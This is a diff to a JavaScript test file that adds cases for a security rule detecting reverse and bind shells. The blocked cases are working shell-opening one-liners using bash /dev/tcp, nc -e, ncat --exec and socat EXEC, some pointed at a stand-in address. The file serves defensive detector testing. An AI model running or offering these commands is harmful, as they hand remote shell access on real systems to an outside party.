@@ -1,4 +1,4 @@
-import { networkShellRule } from './shell-integrity-rules.js';
+import { networkShellRule, reverseShellRule } from './shell-integrity-rules.js';
 import { bashContext as bash } from './rule-context.fixture.js';
 
 describe('network_shell', () => {
@@ -15,6 +15,31 @@ describe('network_shell', () => {
     'lets %s through',
     (command) => {
       expect(networkShellRule.evaluate(bash(command))).toBeNull();
+    },
+  );
+});
+
+describe('reverse_shell', () => {
+  it.each([
+    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+    'nc -le /bin/sh 4444',
+    'nc -lvp 4444 -e /bin/bash',
+    'ncat --listen --exec=/bin/bash 4444',
+    "ncat --listen --sh-exec='sh -i' 4444",
+    "ncat --listen --sh-exec='env -u X exec nice -n 5 sh' 4444",
+    "ncat -l 4444 --lua-exec=shell.lua",
+    'socat TCP-LISTEN:4444 SHELL',
+    "socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty,stderr,setsid",
+    'socat exec:sh tcp:203.0.113.9:4444',
+  ])('blocks %s', (command) => {
+    expect(reverseShellRule.evaluate(bash(command))).toMatchObject({ verdict: 'block', factors: ['remote_execution', 'network_request'] });
+  });
+
+  // Serving a program that is no shell (a peer cannot type commands into it), and netcat without -e.
+  it.each(["ncat --listen --sh-exec='printf ok' 4444", "ncat --listen --exec='nice -n 5 cat' 4444", 'nc -zv localhost 5432', 'nc -l 8080', 'nc -c host 80', 'socat TCP-LISTEN:8080,fork TCP:localhost:3000'])(
+    'lets %s through',
+    (command) => {
+      expect(reverseShellRule.evaluate(bash(command))).toBeNull();
     },
   );
 });
